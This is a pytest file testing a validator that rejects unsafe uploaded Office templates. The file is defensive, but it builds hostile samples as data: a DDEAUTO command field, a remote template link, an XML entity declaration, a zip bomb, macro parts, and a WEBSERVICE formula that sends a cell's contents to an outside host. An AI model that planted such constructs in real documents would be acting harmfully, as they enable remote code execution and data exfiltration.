"""Files that are no template: forged, broken, bombs, macros, and everything that acts or reaches outside."""

import io
import zipfile

import docx
import openpyxl
import pytest
from openpyxl.worksheet.table import Table

from sekimori.foundation.applications.kind import kinds
from sekimori.foundation.applications.paper.own.form import check
from sekimori.foundation.applications.paper.own.package import MOST_BYTES, MOST_OF_A_PART
from sekimori.kernel.problems import Refused

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(text="{{申請番号}}"):
    document = docx.Document()
    document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def book():
    made = openpyxl.Workbook()
    made.active["A1"] = "{{申請番号}}"
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def changed(data, *, added=None, replaced=()):
    """The package with parts added, or a piece of a part replaced."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for part, before, after in replaced:
                if part == name:
                    assert before.encode() in content
                    content = content.replace(before.encode(), after.encode())
            new.writestr(name, content)
        for name, content in (added or {}).items():
            new.writestr(name, content)
    return stream.getvalue()


def link(kind, target="http://example.com/x"):
    relation = (
        f'<Relationship Id="r99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return [("word/_rels/document.xml.rels", "</Relationships>", relation)]


def field(instruction):
    run = f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{instruction}</w:instrText></w:r></w:p><w:sectPr'
    return [("word/document.xml", "</w:p><w:sectPr", run)]


REFUSED = {
    "renamed text": ("様式.docx", lambda: b"{{\xe7\x94\xb3}}", "でもありません"),
    "old Word": ("様式.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"0" * 600, "古い形式"),
    "a sheet named as a document": ("様式.docx", book, "合いません"),
    "a document named as a sheet": ("様式.xlsx", word, "合いません"),
    "a zip of something else": (
        "様式.docx",
        lambda: changed(word(), replaced=[("[Content_Types].xml", "main+xml", "x+xml")]),
        "でもありません",
    ),
    "cut off": ("様式.docx", lambda: word()[:-200], "でもありません"),
    "too large": ("様式.docx", lambda: word() + b"0" * MOST_BYTES, "超えています"),
    "a bomb": (
        "様式.docx",
        lambda: changed(word(), added={"word/media/a.bin": b"0" * (MOST_OF_A_PART + 1)}),
        "大きすぎます",
    ),
    "a macro": ("様式.docx", lambda: changed(word(), added={"word/vbaProject.bin": b"x"}), "マクロ"),
    "a macro by its type": (
        "様式.docx",
        lambda: changed(
            word(),
            replaced=[
                (
                    "[Content_Types].xml",
                    "</Types>",
                    '<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            ],
        ),
        "マクロ",
    ),
    "a macro sheet": ("様式.xlsx", lambda: changed(book(), added={"xl/macrosheets/sheet1.xml": b"<x/>"}), "マクロ"),
    "an embedded program": (
        "様式.docx",
        lambda: changed(word(), added={"word/embeddings/a.bin": b"x"}),
        "埋め込まれた",
    ),
    "a control": ("様式.xlsx", lambda: changed(book(), added={"xl/activeX/a.xml": b"<x/>"}), "埋め込まれた"),
    "a template elsewhere": ("様式.docx", lambda: changed(word(), replaced=link("attachedTemplate")), "外部から"),
    "a picture elsewhere": ("様式.docx", lambda: changed(word(), replaced=link("image")), "外部から"),
    "a linked book": (
        "様式.xlsx",
        lambda: changed(book(), added={"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        "リンク",
    ),
    "a data connection": ("様式.xlsx", lambda: changed(book(), added={"xl/connections.xml": b"<x/>"}), "リンク"),
    "a field that runs": ("様式.docx", lambda: changed(word(), replaced=field("DDEAUTO c:\\x")), "フィールド"),
    "a field that fetches": (
        "様式.docx",
        lambda: changed(word(), replaced=field("includetext &quot;x&quot;")),
        "フィールド",
    ),
    "entities": (
        "様式.docx",
        lambda: changed(word(), added={"word/header9.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "宣言",
    ),
    "nothing to fill": ("様式.docx", lambda: word("様式"), "差込みが一つも"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_no_template_is_refused_with_what_is_wrong(case):
    name, make, what = REFUSED[case]
    with pytest.raises(Refused, match=what):
        check(kinds()["handling.takeout"], name, make())


def test_functions_that_reach_outside_are_refused():
    made = openpyxl.Workbook()
    made.active["A1"], made.active["A2"] = "{{項目:本人の数}}", '=WEBSERVICE("http://example.com/?"&A1)'
    stream = io.BytesIO()
    made.save(stream)
    with pytest.raises(Refused, match="関数"):
        check(kinds()["handling.takeout"], "様式.xlsx", stream.getvalue())


def run(text):
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def in_field(*texts):
    inside = "".join(run(text) for text in texts)
    whole = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{inside}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
    return changed(word(), replaced=[("word/document.xml", "</w:p><w:sectPr", whole)])


@pytest.mark.parametrize("texts", [("DD", "EAUTO c:"), (" INCLUDE", "TEXT x"), ("PAGE ", 'LINK "x"')])
def test_a_field_cut_into_runs_is_read_as_one(texts):
    with pytest.raises(Refused, match="フィールド"):
        check(kinds()["handling.takeout"], "様式.docx", in_field(*texts))


@pytest.mark.parametrize("texts", [("PAGE",), (" HYPER", 'LINK "https://example.com"'), ("NUMPAGES",)])
def test_page_numbers_and_links_to_follow_may_stay(texts):
    assert check(kinds()["handling.takeout"], "様式.docx", in_field(*texts)).format == "docx"


def test_a_name_in_a_tables_head_is_pointed_out():
    made = openpyxl.Workbook()
    made.active.append(["{{申請番号}}", "{{課}}"])
    made.active.append(["", ""])
    made.active.add_table(Table(displayName="T", ref="A1:B2"))
    stream = io.BytesIO()
    made.save(stream)
    with pytest.raises(Refused, match="見出し"):
        check(kinds()["handling.takeout"], "様式.xlsx", stream.getvalue())


def test_a_link_that_is_followed_by_hand_may_stay():
    assert check(kinds()["handling.takeout"], "様式.docx", changed(word(), replaced=link("hyperlink"))).format == "docx"
